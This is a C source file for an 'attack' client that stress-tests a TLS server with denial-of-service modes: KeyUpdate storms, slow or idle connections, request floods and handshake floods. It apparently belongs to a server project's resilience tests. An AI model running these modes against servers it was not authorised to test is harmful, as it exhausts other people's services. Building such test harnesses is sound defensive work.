// A hostile client: attack --kind KIND --port N [option...]
//
//   keyupdates   after the handshake it changes its keys again and again, and asks the server to do
//                the same
//   silent       it connects, `--rate` times a second, and never sends a byte; what it has it keeps
//   onebyte      the same, but it sends the first byte of a handshake
//   hello        the same, but it sends the whole first message of a handshake
//   hangup       the same, and a quarter of a second later it hangs up
//   flood        it signs in, sends the same call without end, and throws away the answers
//   deaf         the same, but it never reads an answer
//   handshakes   it shakes hands and closes, as fast as it can
//
// One thread, epoll, from `--hosts` addresses. Whatever the server ends begins anew at once. It checks
// nobody's certificate, and after the handshake it seals records itself (see record.h): an attacker
// spends as little as possible for what the server has to do.
//
// Prints `attacking` when it begins, `under way` once as many as `--connections` have come so far that
// they attack, and after `--seconds`, or on SIGTERM, a line of JSON with what it did.
#define _GNU_SOURCE
#include "../Baseline/client.h"
#include "sources.h"

#include <getopt.h>
#include <signal.h>
#include <stdbool.h>

enum {
  CALL_SIZE_MAX = 65536,
  READ_SIZE_MAX = 1 << 18,
  // More than the front of a record of the largest size.
  INPUT_SIZE_MAX = 2 * RECORD_SEALED_SIZE_MAX,
  KEY_UPDATES_PER_WRITE = 64,
  KEY_UPDATE_SIZE = 5,
  EVENTS_PER_WAIT_MAX = 256,
  OPENS_PER_TURN_MAX = 64,
  HELLO_SIZE_MAX = 4096,
  HANG_UP_NS = 250 * 1000000,
};

enum kind { KEY_UPDATES, SILENT, ONE_BYTE, HELLO, HANG_UP, FLOOD, DEAF, HANDSHAKES, KINDS };
static const char *const kind_names[KINDS] = {"keyupdates", "silent", "onebyte", "hello",
                                              "hangup",     "flood",  "deaf",    "handshakes"};

enum state { CLOSED, CONNECTING, SHAKING, SIGNING_IN, ATTACKING };

struct connection {
  enum state state;
  int socket;
  uint32_t index, correlation;
  SSL *ssl;
  struct client_secrets secrets;
  const EVP_MD *hash;
  struct record_keys seals, opens;
  uint8_t *output;  // sealed, and written up to `written`
  size_t output_count, written;
  uint8_t *input;  // what has come of the answer to the sign-in
  size_t input_count;
  // Its neighbours among those that will hang up, the one that does so first at the front.
  struct connection *before, *after;
  uint64_t said_ns;
};

struct frames {
  uint8_t *bytes;
  size_t size, count;
};

static struct {
  enum kind kind;
  uint16_t port;
  uint32_t hosts, connections;
  double rate, seconds;
  const char *name, *openings, *call;
} options = {.kind = KINDS, .hosts = 1, .name = "localhost"};

static struct {
  uint64_t connects, failed, handshakes, signed_in, refused, sent, bytes, ended, dropped;
} counts;

static volatile sig_atomic_t is_over;
static int poll_descriptor;
static SSL_CTX *context;
static struct connection *connections;
static struct connection said = {.before = &said, .after = &said};
static uint32_t *closed, closed_count, oldest;
static uint64_t began_ns;
static struct frames openings;
static uint8_t *call;
static size_t call_size;
static uint8_t scratch[READ_SIZE_MAX];
// What a connection says that does nothing more.
static uint8_t words[HELLO_SIZE_MAX] = {SSL3_RT_HANDSHAKE};
static size_t words_size;

static bool signs_in(void) { return options.kind == FLOOD || options.kind == DEAF; }
static bool only_connects(void) {
  return options.kind == SILENT || options.kind == ONE_BYTE || options.kind == HELLO ||
         options.kind == HANG_UP;
}
static bool seals(void) { return signs_in() || options.kind == KEY_UPDATES; }

// MARK: A connection's ends

static void close_connection(struct connection *c) {
  SSL_free(c->ssl);
  EVP_CIPHER_CTX_free(c->seals.cipher);
  EVP_CIPHER_CTX_free(c->opens.cipher);
  sources_drop(c->socket);
  free(c->output);
  free(c->input);
  if (c->after) {
    c->after->before = c->before;
    c->before->after = c->after;
  }
  *c = (struct connection){.index = c->index};
  closed[closed_count++] = c->index;
  ERR_clear_error();
}

static void end_by_peer(struct connection *c) {
  counts.ended += 1;
  close_connection(c);
}

static bool open_connection(void) {
  struct connection *c = &connections[closed[closed_count - 1]];
  c->socket = sources_connect(c->index % options.hosts, options.port);
  if (c->socket < 0) {
    counts.failed += 1;
    return false;
  }
  closed_count -= 1;
  counts.connects += 1;
  c->state = CONNECTING;
  sources_watch(poll_descriptor, c->socket, EPOLLOUT, c);
  return true;
}

// Opens what is closed, so many at once that those that are open have their turns, and no more than
// the rate has come to. Where all are open, the oldest of them make room for the next.
static void open_some(void) {
  uint64_t due = UINT64_MAX;
  if (options.rate > 0)
    due = (uint64_t)((double)(now_ns(CLOCK_MONOTONIC) - began_ns) / 1e9 * options.rate);
  for (int i = 0; i < OPENS_PER_TURN_MAX && counts.connects < due; i++) {
    if (!closed_count) {
      if (options.rate <= 0) return;
      counts.dropped += 1;
      close_connection(&connections[oldest]);
      oldest = (oldest + 1) % options.connections;
    }
    if (!open_connection()) return;
  }
}

// MARK: Handshake and sign-in

static void seal_frame(struct connection *c, const uint8_t *frame, size_t size) {
  uint32_t correlation = htobe32(++c->correlation);
  size_t records = size / RECORD_SIZE_MAX + 1;
  if (!c->output && !(c->output = malloc(CALL_SIZE_MAX + 8 * RECORD_OVERHEAD)))
    die("out of memory");
  if (size + records * RECORD_OVERHEAD > CALL_SIZE_MAX + 8 * RECORD_OVERHEAD) die("a large frame");
  c->output_count = c->written = 0;
  for (size_t from = 0; from < size;) {
    size_t part = size - from < RECORD_SIZE_MAX ? size - from : RECORD_SIZE_MAX;
    uint8_t *record = c->output + c->output_count;
    memcpy(record + RECORD_HEADER_SIZE, frame + from, part);
    if (from == 0) memcpy(record + RECORD_HEADER_SIZE + 8, &correlation, 4);
    c->output_count += record_seal(&c->seals, record, part, RECORD_DATA);
    from += part;
  }
}

// False when the server has ended the connection.
static bool write_output(struct connection *c) {
  ssize_t put = send(c->socket, c->output + c->written, c->output_count - c->written, MSG_NOSIGNAL);
  if (put < 0) return errno == EAGAIN || errno == EINTR;
  c->written += (size_t)put;
  counts.bytes += (uint64_t)put;
  return true;
}

static void attack(struct connection *c) {
  c->state = ATTACKING;
  uint32_t deaf = options.kind == DEAF ? EPOLLRDHUP : EPOLLIN;
  sources_watch(poll_descriptor, c->socket, deaf | EPOLLOUT, c);
}

// Signs in by a call of its own: connection n by the nth of the file.
static void sign_in(struct connection *c) {
  const uint8_t *frame = openings.bytes;
  struct frame parsed;
  size_t left = openings.size;
  for (size_t i = 0, size; i < c->index % openings.count; i++, frame += size, left -= size)
    size = (size_t)frame_parse(frame, left, CALL_SIZE_MAX, &parsed);
  seal_frame(c, frame, (size_t)frame_parse(frame, left, CALL_SIZE_MAX, &parsed));
  c->input = malloc(INPUT_SIZE_MAX);
  if (!c->input) die("out of memory");
  c->state = SIGNING_IN;
  sources_watch(poll_descriptor, c->socket, EPOLLIN | EPOLLOUT, c);
}

static void shaken(struct connection *c) {
  counts.handshakes += 1;
  client_check_protocol(c->ssl);
  if (options.kind == HANDSHAKES) {
    close_connection(c);
    return;
  }
  record_keys_set(&c->seals, c->ssl, &c->secrets.sends, 1);
  record_keys_set(&c->opens, c->ssl, &c->secrets.receives, 0);
  c->hash = SSL_CIPHER_get_handshake_digest(SSL_get_current_cipher(c->ssl));
  // Without read-ahead it has taken no byte that comes after the handshake.
  SSL_free(c->ssl);
  c->ssl = NULL;
  if (signs_in()) sign_in(c);
  else attack(c);
}

static void shake_hands(struct connection *c) {
  if (c->state == CONNECTING) {
    c->ssl = client_open(context, c->socket, options.name, &c->secrets);
    c->state = SHAKING;
  }
  int result = SSL_connect(c->ssl);
  if (result == 1) {
    shaken(c);
    return;
  }
  switch (SSL_get_error(c->ssl, result)) {
    case SSL_ERROR_WANT_READ: sources_watch(poll_descriptor, c->socket, EPOLLIN, c); return;
    case SSL_ERROR_WANT_WRITE: sources_watch(poll_descriptor, c->socket, EPOLLOUT, c); return;
    default: end_by_peer(c);
  }
}

// Looks for the answer to the sign-in. Returns 0 while it is not there, -1 for a connection that is
// over.
static int take_answer(struct connection *c) {
  size_t taken = 0, size, data_size;
  enum record_type type;
  int found = 0;
  while (found == 0 && (size = record_open(&c->opens, c->input + taken, c->input_count - taken,
                                           scratch, &data_size, &type))) {
    taken += size;
    struct frame frame;
    if (type == RECORD_ALERT) found = -1;
    if (type != RECORD_DATA || frame_parse(scratch, data_size, CALL_SIZE_MAX, &frame) <= 0) continue;
    if (frame.kind == KIND_REPLY) found = 1;
    if (frame.kind != KIND_ERROR) continue;
    if (!counts.refused++)
      fprintf(stderr, "attack: refused: %.*s\n", (int)frame.body_size,
              (const char *)scratch + FRAME_HEADER_SIZE);
    found = -1;
  }
  c->input_count -= taken;
  memmove(c->input, c->input + taken, c->input_count);
  return found;
}

static void await_sign_in(struct connection *c, uint32_t events) {
  if (events & EPOLLOUT) {
    if (!write_output(c)) return end_by_peer(c);
    if (c->written == c->output_count) sources_watch(poll_descriptor, c->socket, EPOLLIN, c);
  }
  if (!(events & ~(uint32_t)EPOLLOUT)) return;
  ssize_t got = recv(c->socket, c->input + c->input_count, INPUT_SIZE_MAX - c->input_count, 0);
  if (got < 0 && errno == EAGAIN) return;
  if (got <= 0) return end_by_peer(c);
  c->input_count += (size_t)got;
  int found = take_answer(c);
  if (found < 0) return end_by_peer(c);
  if (found == 0) return;
  counts.signed_in += 1;
  attack(c);
}

// MARK: The attack itself

static void seal_key_updates(struct connection *c) {
  // Type, a length of one, and that the peer is to change its keys as well.
  static const uint8_t message[KEY_UPDATE_SIZE] = {SSL3_MT_KEY_UPDATE, 0, 0, 1, 1};
  if (!c->output &&
      !(c->output = malloc(KEY_UPDATES_PER_WRITE * (KEY_UPDATE_SIZE + RECORD_OVERHEAD))))
    die("out of memory");
  c->output_count = c->written = 0;
  for (int i = 0; i < KEY_UPDATES_PER_WRITE; i++) {
    uint8_t *record = c->output + c->output_count;
    memcpy(record + RECORD_HEADER_SIZE, message, sizeof message);
    c->output_count += record_seal(&c->seals, record, sizeof message, RECORD_HANDSHAKE);
    record_keys_update(&c->seals, c->hash, &c->secrets.sends);
  }
}

static void hang_up_later(struct connection *c) {
  c->said_ns = now_ns(CLOCK_MONOTONIC);
  c->after = &said;
  c->before = said.before;
  c->before->after = said.before = c;
}

static void hang_up(void) {
  uint64_t now = now_ns(CLOCK_MONOTONIC);
  while (said.after != &said && now - said.after->said_ns >= HANG_UP_NS)
    close_connection(said.after);
}

static void go_on(struct connection *c, uint32_t events) {
  if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) return end_by_peer(c);
  if (events & EPOLLIN) {
    ssize_t got = recv(c->socket, scratch, sizeof scratch, 0);
    if (got == 0 || (got < 0 && errno != EAGAIN)) return end_by_peer(c);
  }
  if (!(events & EPOLLOUT)) return;
  if (only_connects()) {
    if (send(c->socket, words, words_size, MSG_NOSIGNAL) != (ssize_t)words_size)
      return end_by_peer(c);
    // There is nothing more to do but to see the end.
    sources_watch(poll_descriptor, c->socket, EPOLLIN | EPOLLRDHUP, c);
    if (options.kind == HANG_UP) hang_up_later(c);
    return;
  }
  if (c->written == c->output_count) {
    if (options.kind == KEY_UPDATES) {
      seal_key_updates(c);
      counts.sent += KEY_UPDATES_PER_WRITE;
    } else {
      seal_frame(c, call, call_size);
      counts.sent += 1;
    }
  }
  if (!write_output(c)) end_by_peer(c);
}

static void event(struct connection *c, uint32_t events) {
  switch (c->state) {
    case CLOSED: return;
    case CONNECTING:
      if (events & (EPOLLERR | EPOLLHUP)) return end_by_peer(c);
      if (!only_connects()) return shake_hands(c);
      c->state = ATTACKING;
      return go_on(c, events);
    case SHAKING: return shake_hands(c);
    case SIGNING_IN: return await_sign_in(c, events);
    case ATTACKING: return go_on(c, events);
  }
}

static void tell_progress(void) {
  static bool is_told;
  uint64_t begun = only_connects() ? counts.connects : counts.handshakes;
  if (signs_in()) begun = counts.signed_in;
  if (is_told || begun < options.connections) return;
  is_told = true;
  printf("under way\n");
  fflush(stdout);
}

// MARK: Options

static uint8_t *read_frames(const char *path, size_t *size, size_t *count) {
  FILE *file = fopen(path, "rb");
  if (!file || fseek(file, 0, SEEK_END)) die("cannot read %s: %s", path, strerror(errno));
  *size = (size_t)ftell(file);
  uint8_t *bytes = malloc(*size);
  rewind(file);
  if (!bytes || fread(bytes, 1, *size, file) != *size) die("cannot read %s", path);
  fclose(file);
  struct frame frame;
  ssize_t taken;
  *count = 0;
  for (size_t at = 0; at < *size; at += (size_t)taken, *count += 1)
    if ((taken = frame_parse(bytes + at, *size - at, CALL_SIZE_MAX, &frame)) <= 0)
      die("%s: no frame at %zu", path, at);
  if (!*count) die("%s is empty", path);
  return bytes;
}

static enum kind kind_of(const char *name) {
  int kind = 0;
  while (kind < KINDS && strcmp(kind_names[kind], name)) kind += 1;
  return (enum kind)kind;
}

static void parse_options(int argc, char **argv) {
  static const struct option names[] = {
      {"kind", 1, NULL, 'k'},     {"port", 1, NULL, 'p'},        {"hosts", 1, NULL, 'h'},
      {"rate", 1, NULL, 'r'},     {"connections", 1, NULL, 'n'}, {"name", 1, NULL, 'm'},
      {"openings", 1, NULL, 'O'}, {"call", 1, NULL, 'c'},        {"seconds", 1, NULL, 's'},
      {0}};
  for (int option; (option = getopt_long(argc, argv, "", names, NULL)) != -1;) {
    switch (option) {
      case 'k': options.kind = kind_of(optarg); break;
      case 'p': options.port = (uint16_t)atoi(optarg); break;
      case 'h': options.hosts = (uint32_t)atoi(optarg); break;
      case 'r': options.rate = atof(optarg); break;
      case 'n': options.connections = (uint32_t)atoi(optarg); break;
      case 'm': options.name = optarg; break;
      case 'O': options.openings = optarg; break;
      case 'c': options.call = optarg; break;
      case 's': options.seconds = atof(optarg); break;
      default: exit(2);
    }
  }
  if (options.kind == KINDS || !options.port || !options.hosts || !options.connections ||
      (signs_in() && (!options.openings || !options.call)))
    die("usage: attack --kind keyupdates|silent|onebyte|hello|hangup|flood|deaf|\n"
        "  handshakes --port N --connections N [--hosts N] [--rate CONNECTS_PER_SECOND]\n"
        "  [--name HOST] [--seconds S] [--openings FILE --call FILE] (of flood and deaf)");
}

// The first message of a client: the same from all, for whoever sends nothing more needs no keys.
static void prepare_hello(void) {
  SSL *ssl = client_open(context, 0, options.name, NULL);
  BIO *output = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl, BIO_new(BIO_s_mem()), output);
  SSL_connect(ssl);
  int size = BIO_read(output, words, sizeof words);
  if (size <= 0) die("there is no first message");
  words_size = (size_t)size;
  SSL_free(ssl);
}

static void prepare(void) {
  uint32_t most = sources_connections_max();
  if (options.connections > most) options.connections = most;
  size_t count;
  if (signs_in()) {
    openings.bytes = read_frames(options.openings, &openings.size, &openings.count);
    call = read_frames(options.call, &call_size, &count);
    if (count != 1) die("%s has more than one call", options.call);
  }
  context = client_context(NULL, ciphersuite_default);
  if (options.kind == ONE_BYTE) words_size = 1;
  if (options.kind == HELLO || options.kind == HANG_UP) prepare_hello();
  if (seals()) SSL_CTX_set_keylog_callback(context, client_note_secret);
  connections = calloc(options.connections, sizeof *connections);
  closed = calloc(options.connections, sizeof *closed);
  if (!connections || !closed) die("out of memory");
  // The first one is opened first, so that the oldest are in order.
  for (uint32_t i = 0; i < options.connections; i++) {
    connections[i].index = i;
    closed[closed_count++] = options.connections - 1 - i;
  }
}

static void report(void) {
  printf("{\"seconds\":%.3f,\"cpu_seconds\":%.3f,\"connects\":%llu,\"failed\":%llu,"
         "\"handshakes\":%llu,\"signed_in\":%llu,\"refused\":%llu,\"sent\":%llu,\"bytes\":%llu,"
         "\"ended\":%llu,\"dropped\":%llu,\"open\":%u}\n",
         (double)(now_ns(CLOCK_MONOTONIC) - began_ns) / 1e9, own_cpu_seconds(),
         (unsigned long long)counts.connects, (unsigned long long)counts.failed,
         (unsigned long long)counts.handshakes, (unsigned long long)counts.signed_in,
         (unsigned long long)counts.refused, (unsigned long long)counts.sent,
         (unsigned long long)counts.bytes, (unsigned long long)counts.ended,
         (unsigned long long)counts.dropped, options.connections - closed_count);
}

static bool is_late(void) {
  return options.seconds > 0 &&
         (double)(now_ns(CLOCK_MONOTONIC) - began_ns) / 1e9 > options.seconds;
}

static void end(int signal) {
  (void)signal;
  is_over = 1;
}

// A process inherits which signals are blocked.
static void end_on_sigterm(void) {
  struct sigaction action = {.sa_handler = end};
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, SIGTERM);
  if (sigaction(SIGTERM, &action, NULL) || sigprocmask(SIG_UNBLOCK, &set, NULL)) die("no signals");
}

int main(int argc, char **argv) {
  parse_options(argc, argv);
  prepare();
  end_on_sigterm();
  // What the peer has ended is written to by OpenSSL too, which cannot be told not to raise it.
  signal(SIGPIPE, SIG_IGN);
  poll_descriptor = epoll_create1(EPOLL_CLOEXEC);
  began_ns = now_ns(CLOCK_MONOTONIC);
  printf("attacking\n");
  fflush(stdout);
  // Nobody is left to end an attack when whoever has started it is gone.
  for (pid_t parent = getppid(); !is_over && getppid() == parent && !is_late();) {
    hang_up();
    open_some();
    struct epoll_event events[EVENTS_PER_WAIT_MAX];
    bool opens_more = closed_count || options.rate > 0 || options.kind == HANG_UP;
    int count = epoll_wait(poll_descriptor, events, EVENTS_PER_WAIT_MAX, opens_more ? 1 : 100);
    if (count < 0 && errno != EINTR) die("epoll_wait: %s", strerror(errno));
    for (int i = 0; i < count; i++) event(events[i].data.ptr, events[i].events);
    tell_progress();
  }
  report();
}
